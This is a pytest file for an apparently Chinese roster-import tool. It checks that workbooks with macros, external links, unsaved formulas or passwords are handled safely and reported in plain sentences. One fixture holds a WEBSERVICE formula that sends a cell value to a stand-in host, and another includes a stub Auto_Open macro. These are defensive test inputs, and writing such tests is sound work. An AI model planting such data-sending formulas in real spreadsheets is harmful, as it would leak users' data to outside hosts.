"""Formulas, links to other files, macros, passwords: nothing is run, fetched or guessed, and it is said so."""

from pathlib import Path

import pytest

from tests.conftest import County
from tests.safety.hostile import HEAD, ONE, PROTECTED, SHEET, cell, sheet, workbook

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TOLD = "文件有打开密码。请在 Excel/WPS 中取消打开密码，保存，再试。"


def test_a_workbook_with_macros_links_and_formulas_is_read_for_its_saved_values_only(county: County) -> None:
    fetching = '<c r="A2" t="str"><f>WEBSERVICE("http://a.invalid/"&amp;C2)</f><v>甲店</v></c>'
    linked = '<c r="B2" t="str"><f>\'[1]别处\'!A1</f><v>公共场所</v></c>'
    rows = f'<row r="2">{fetching}{linked}{cell("C2", "A1")}</row>'
    away = f'<externalLink><externalBook xmlns:r="{RELATIONS}" r:id="rId1"/></externalLink>'
    macro = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Auto_Open", "xl/externalLinks/externalLink1.xml": away}
    county.write("名单.xlsm", workbook({SHEET: sheet(rows), **macro}))
    (county.root / "rosters/subjects.csv").unlink()

    answer = county.ssj("import", str(county.root / "名单.xlsm"), "--as", "subjects", "--json")

    assert answer.code == 0
    assert county.ssj("check", "--json").json["strata"][0]["population"] == 1


def test_a_formula_whose_value_was_never_saved_is_a_problem_not_a_guess(county: County) -> None:
    county.write(
        "rosters/subjects.xlsx", workbook({SHEET: sheet(ONE.replace(cell("A2", "甲店"), '<c r="A2"><f>1+1</f></c>'))})
    )
    (county.root / "rosters/subjects.csv").unlink()

    answer = county.ssj("check")

    assert answer.code == 1
    assert "公式没有保存计算结果，读不出内容。用 Excel/WPS 打开，保存一次，再试。" in answer.err


@pytest.mark.parametrize("name", ["名单.xlsx", "名单.xls"])
@pytest.mark.parametrize("command", ["check", "import", "receive", "record"])
def test_a_file_with_a_password_is_said_to_have_one_in_a_sentence(
    county: County, tmp_path: Path, command: str, name: str
) -> None:
    path = tmp_path / name
    path.write_bytes(PROTECTED)
    if command != "import":
        county.ssj("draw", "--seed", "1", "--no-sheets")
    if command == "check":
        (county.root / "rosters/subjects.csv").unlink()
        county.write(f"rosters/subjects{path.suffix}", PROTECTED)
    words = {
        "check": (),
        "import": (str(path), "--as", "items", "--out", "新.xlsx"),
        "receive": (str(path), "--drawn-by", "省卫生健康委", "--document", "省卫〔2023〕6号"),
        "record": (str(path),),
    }
    before = county.files()

    answer = county.ssj(command, *words[command])

    assert answer.code == 1
    assert answer.err.count(TOLD) == 1
    assert county.files() == before


def test_the_heading_row_alone_is_a_roster_without_rows(county: County) -> None:
    assert HEAD in sheet("")
    county.write("rosters/subjects.xlsx", workbook({SHEET: sheet("")}))
    (county.root / "rosters/subjects.csv").unlink()

    answer = county.ssj("check")

    assert answer.code == 1
    assert "检查对象名录库里一行也没有。请填写名册。" in answer.err
